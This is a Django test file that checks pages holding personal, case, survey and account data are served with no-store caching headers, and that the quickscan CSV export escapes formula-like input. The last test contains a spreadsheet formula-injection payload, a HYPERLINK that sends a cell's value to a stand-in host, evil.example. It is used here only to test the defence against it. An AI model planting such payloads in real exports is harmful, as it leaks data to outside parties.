"""No page with people, cases or survey results may be kept by a browser cache or a proxy.

The finding (issue 10, low): the quickscan report and its CSV, and the people list, were sent
without `Cache-Control: no-store`, so a shared computer's browser cache or a caching proxy kept
them. The sweep below asks every organisation page that takes no id as a person who holds every
role, then the pages with ids that show personal or case data, and the account pages (e-mail
addresses, second factor). `core.cache_headers.PrivatePagesMiddleware` does it for every page
behind login; the named views also say `never_cache` themselves.
"""

from __future__ import annotations

from typing import Any

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone

from support.people import make_member, make_unit
from vangnet.organisations.roles import Role

# Public pages: no login, nothing about any person (the reporter's own pages carry no-store
# themselves and are checked too, because they are not listed here).
PUBLIC = {
    "organisations:public_home", "organisations:sso_login", "organisations:theme_css",
    "toolbox:public_glossary", "toolbox:public_faq", "reporting:route", "reporting:poster",
    "reporting:qr", "reporting:guide",
}
# The anonymous reporter's pages answer `no-store` (reporting.views._no_store): that already
# forbids every cache, shared or private (RFC 9111 §5.2.2.5); they use no login or session.
REPORTER_PAGES = {
    "reporting:report_new", "reporting:return", "reporting:reporter_report",
    "reporting:reporter_attachment", "reporting:reporter_close", "reporting:receipt",
    "reporting:callback_new", "reporting:callback_sent",  # "talk first" (issue 12)
}


def _organisation_routes() -> list[tuple[str, str]]:
    found: list[tuple[str, str]] = []

    def walk(patterns: list[Any], prefix: str, namespace: str) -> None:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, prefix + str(pattern.pattern),
                     pattern.namespace or namespace)
            elif isinstance(pattern, URLPattern):
                found.append((prefix + str(pattern.pattern), f"{namespace}:{pattern.name}"))

    walk(get_resolver().url_patterns, "", "")
    return [(route, name) for route, name in found
            if route.startswith("o/<slug:org_slug>/") and route.count("<") == 1]


def _assert_not_stored(response: Any, what: str, *, private: bool = True) -> None:
    header = response.get("Cache-Control", "")
    directives = {part.strip().split("=")[0] for part in header.split(",")}
    wanted = {"no-store", "private"} if private else {"no-store"}
    assert wanted <= directives, f"{what}: Cache-Control {header!r}"


@pytest.fixture
def everyone(organisation: Any) -> Any:
    unit = make_unit(organisation, "Team Alles")
    return make_member(organisation, *Role, unit=unit, name="Alle Rollen",
                       email="alle.rollen@example.org")


@pytest.mark.django_db
def test_every_logged_in_organisation_page_is_no_store(client: Any, organisation: Any,
                                                       everyone: Any) -> None:
    client.force_login(everyone.user)
    routes = _organisation_routes()
    assert len(routes) > 40  # the sweep really found the product's pages
    checked = 0
    for route, name in routes:
        if name in PUBLIC:
            continue
        path = "/" + route.replace("<slug:org_slug>", organisation.slug)
        response = client.get(path)
        if response.status_code in (405,):  # POST-only actions
            continue
        _assert_not_stored(response, f"{name} {path} ({response.status_code})",
                           private=name not in REPORTER_PAGES)
        checked += 1
    assert checked > 30


@pytest.mark.django_db
def test_pages_with_people_results_and_figures_are_no_store(client: Any, organisation: Any,
                                                            everyone: Any) -> None:
    from vangnet.cases import stats
    from vangnet.quickscan.models import Round

    closed = Round.objects.create(organisation=organisation, title="Ronde voorjaar",
                                  status=Round.Status.CLOSED, closed_at=timezone.now())
    employee = make_member(organisation, Role.EMPLOYEE, name="Piet Persoon")
    client.force_login(everyone.user)
    slug = organisation.slug
    year = stats.latest_published_year()
    pages = {
        "quickscan report": f"/o/{slug}/quickscan/rondes/{closed.pk}/rapport/",
        "quickscan PDF": f"/o/{slug}/quickscan/rondes/{closed.pk}/rapport.pdf",
        "quickscan CSV": f"/o/{slug}/quickscan/rondes/{closed.pk}/rapport.csv",
        "people list": f"/o/{slug}/beheer/mensen/",
        "person": f"/o/{slug}/beheer/mensen/{employee.pk}/",
        "invitations": f"/o/{slug}/beheer/uitnodigingen/",
        "yearly report": f"/o/{slug}/dossiers/jaarverslag/?jaar={year}",
        "yearly report PDF": f"/o/{slug}/dossiers/jaarverslag.pdf?jaar={year}",
        "yearly report CSV": f"/o/{slug}/dossiers/jaarverslag.csv?jaar={year}",
    }
    for what, path in pages.items():
        response = client.get(path)
        assert response.status_code == 200, what
        _assert_not_stored(response, what)
    people = client.get(pages["people list"]).content.decode()
    assert "Piet Persoon" in people  # the page that must not be cached does show a person


@pytest.mark.django_db
def test_account_pages_with_addresses_and_second_factors_are_no_store(
        client: Any, organisation: Any, everyone: Any) -> None:
    client.force_login(everyone.user)
    for path in ("/accounts/email/", "/accounts/password/change/", "/accounts/2fa/"):
        response = client.get(path)
        assert response.status_code == 200, path
        _assert_not_stored(response, path)


@pytest.mark.django_db
def test_a_view_that_chose_its_own_caching_keeps_it(client: Any, organisation: Any,
                                                    everyone: Any) -> None:
    client.force_login(everyone.user)
    response = client.get(f"/o/{organisation.slug}/theme.css")
    assert "public" in response["Cache-Control"]  # colours only, the same for everyone


@pytest.mark.django_db
def test_an_invitation_page_is_not_stored(client: Any, organisation: Any) -> None:
    response = client.get(f"/o/{organisation.slug}/uitnodiging/ongeldig-token/")
    _assert_not_stored(response, "invitation")


@pytest.mark.django_db
def test_a_round_title_like_a_formula_stays_text_in_the_quickscan_csv(
        client: Any, organisation: Any, everyone: Any) -> None:
    import csv
    import io

    from vangnet.quickscan.models import Round

    title = '=HYPERLINK("https://evil.example/?d="&E2;"Open de resultaten")'
    closed = Round.objects.create(organisation=organisation, title=title,
                                  status=Round.Status.CLOSED, closed_at=timezone.now())
    client.force_login(everyone.user)
    response = client.get(f"/o/{organisation.slug}/quickscan/rondes/{closed.pk}/rapport.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    titled = [row for row in rows[1:] if row and row[0].endswith(title)]
    assert titled, rows[:3]
    assert all(row[0] == "'" + title for row in titled)
    formula_cells = [cell for row in rows for cell in row
                     if cell[:1] in {"=", "+", "@", "\t", "\r"}]
    assert formula_cells == []
